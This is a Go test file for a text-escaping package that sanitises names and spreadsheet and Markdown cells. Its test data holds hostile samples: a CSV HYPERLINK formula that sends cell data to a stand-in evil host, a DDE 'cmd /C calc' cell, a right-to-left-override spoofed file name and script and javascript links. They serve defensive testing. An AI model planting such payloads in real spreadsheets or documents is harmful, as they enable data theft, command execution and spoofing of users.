package textsafe

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden")

func TestCheckName(t *testing.T) {
	for _, tc := range []struct {
		in      string
		rune    rune
		pos     int
		invalid bool
	}{
		{"web01", 0, 0, false},
		{"Zürich DC — Halle 2", 0, 0, false},
		{"日本語のサーバー", 0, 0, false},
		{"שרת-01", 0, 0, false},                    // right-to-left letters are text, not controls
		{"👩‍💻 team", 0, 0, false},                  // ZWJ emoji sequence
		{"می‌خواهم", 0, 0, false},                  // ZWNJ in Persian
		{`DOMAIN\svc`, 0, 0, false},                // a backslash is visible
		{"a\x00b", 0, 2, false},                    // NUL
		{"web\t01", '\t', 4, false},                // tab breaks columns
		{"line\nbreak", '\n', 5, false},            // newline
		{"cr\r", '\r', 3, false},                   // carriage return
		{"esc\x1b[31mred", 0x1b, 4, false},         // terminal escape
		{"del\x7f", 0x7f, 4, false},                // DEL
		{"c1\u0085", 0x85, 3, false},               // NEL (C1)
		{"invoice\u202egpj.exe", 0x202e, 8, false}, // right-to-left override
		{"\u202aLRE", 0x202a, 1, false},
		{"x\u2066isolate\u2069", 0x2066, 2, false},
		{"mark\u200e", 0x200e, 5, false},
		{"mark\u200f", 0x200f, 5, false},
		{"alm\u061c", 0x061c, 4, false},
		{"ad\u200bmin", 0x200b, 3, false}, // zero-width space: looks like "admin"
		{"bom\ufeff", 0xfeff, 4, false},
		{"wj\u2060", 0x2060, 3, false},
		{"ls\u2028", 0x2028, 3, false},
		{"tag\U000E0041", 0xe0041, 4, false},
		{"soft\u00adhyphen", 0xad, 5, false},
		{"latin1 \xe9", 0, 8, true},
	} {
		err := CheckName(tc.in)
		if tc.pos == 0 {
			if err != nil {
				t.Errorf("CheckName(%q) = %v, want nil", tc.in, err)
			}
			continue
		}
		var ne *NameError
		if !errors.As(err, &ne) || ne.Position != tc.pos || ne.Invalid != tc.invalid || (!tc.invalid && ne.Rune != tc.rune) {
			t.Errorf("CheckName(%q) = %#v, want rune %U at %d (invalid %v)", tc.in, err, tc.rune, tc.pos, tc.invalid)
			continue
		}
		if msg := err.Error(); strings.ContainsFunc(msg, Unsafe) || msg == "" {
			t.Errorf("CheckName(%q) message %q is not itself safe", tc.in, msg)
		}
	}
}

// cells are hostile and ordinary values; the golden file shows each one
// through every escape.
var cells = []string{
	"",
	"web01",
	"ATTRIBUTE_CHANGED",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"=1+1",
	"+1-555-0100",
	"-cmd|' /C calc'!A0",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"   =1+1",
	"-12.50",
	"+3",
	"1000.00",
	"-",
	"-1e3",
	"- 12",
	"CC-4100-INFRA",
	"a|b",
	"*bold* _em_ `code` [link](http://x) <b>html</b> ~~del~~ &amp; $x$",
	`back\slash`,
	"two\nlines\r\nand\ttab",
	"nul\x00byte",
	"invoice\u202egpj.exe",
	"ad\u200bmin",
	"tag\U000E0041",
	"latin1 \xe9",
	"db_01 snake_case _lead trail_",
}

func TestCellsGolden(t *testing.T) {
	var b strings.Builder
	for _, c := range cells {
		fmt.Fprintf(&b, "input    %s\ndisplay  %s\ncsv      %s\nmarkdown %s\n\n",
			strconv.QuoteToASCII(c), Display(c), strconv.QuoteToASCII(CSVCell(c)), MarkdownCell(c))
	}
	golden(t, "cells", b.String())
}

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"},
		{"@cost-centre", "'@cost-centre"},
		{"+1-555", "'+1-555"},
		{"-2+3", "'-2+3"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\n=1", "'\n=1"},
		{"  =1", "'  =1"},
		{"-12.50", "-12.50"}, // a number stays a number
		{"+3", "+3"},
		{"-0", "-0"},
		{"-12.", "'-12."},
		{"-.5", "'-.5"},
		{"-1e3", "'-1e3"},
		{"-inf", "'-inf"},
		{"12.50", "12.50"},
		{"web01", "web01"},
		{"", ""},
		{"   ", "   "},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestMarkdownCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"a|b", `a\|b`},
		{`a\|b`, `a\\\|b`},
		{"db_01", "db_01"},
		{"_x_", `\_x\_`},
		{"<script>", `\<script\>`},
		{"[x](javascript:alert(1))", `\[x\](javascript:alert(1))`},
		{"a\nb\r\nc\td", "a b  c d"},
		{"r\u202el", `r\\u202el`},
		{"n\x00", `n\\x00`},
		{"&lt;", `\&lt;`},
		{"$x$", `\$x\$`},
	} {
		if got := MarkdownCell(tc.in); got != tc.want {
			t.Errorf("MarkdownCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestDisplay(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"web01", "web01"},
		{`DOMAIN\svc`, `DOMAIN\svc`},
		{"a\x00b", `a\x00b`},
		{"a\tb\nc", `a\tb\nc`},
		{"invoice\u202egpj.exe", `invoice\u202egpj.exe`},
		{"tag\U000E0041", `tag\U000e0041`},
		{"latin1 \xe9", `latin1 \xe9`},
		{"ok \ufffd", "ok \ufffd"}, // a real replacement character is visible
	} {
		if got := Display(tc.in); got != tc.want {
			t.Errorf("Display(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// FuzzEscapes checks the promises of each escape over any input: Display
// and MarkdownCell never let an unsafe character or invalid UTF-8 through,
// a Markdown cell is one line whose pipes are all escaped, a CSV cell never
// starts (after spaces) with a formula character unless it is a plain
// number, and CheckName accepts exactly what Display leaves unchanged.
func FuzzEscapes(f *testing.F) {
	for _, c := range cells {
		f.Add(c)
	}
	f.Fuzz(func(t *testing.T, s string) {
		d := Display(s)
		if !utf8.ValidString(d) || strings.ContainsFunc(d, Unsafe) {
			t.Fatalf("Display(%q) = %q lets an unsafe character through", s, d)
		}
		if (CheckName(s) == nil) != (d == s) {
			t.Fatalf("CheckName(%q) = %v but Display gives %q", s, CheckName(s), d)
		}
		m := MarkdownCell(s)
		if !utf8.ValidString(m) || strings.ContainsFunc(m, Unsafe) {
			t.Fatalf("MarkdownCell(%q) = %q lets an unsafe character through", s, m)
		}
		for i := 0; i < len(m); i++ {
			if m[i] == '\\' {
				i++ // the escaped character
				continue
			}
			if strings.IndexByte("|<>[]`*&$~", m[i]) >= 0 {
				t.Fatalf("MarkdownCell(%q) = %q leaves %q unescaped at %d", s, m, m[i], i)
			}
		}
		c := CSVCell(s)
		if t2 := strings.TrimLeft(c, " "); t2 != "" && strings.IndexByte("=+-@\t\r\n", t2[0]) >= 0 && !isDecimal(c) {
			t.Fatalf("CSVCell(%q) = %q starts with a formula character", s, c)
		}
	})
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/textsafe -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs (run with -update if intended):\n%s", path, got)
	}
}
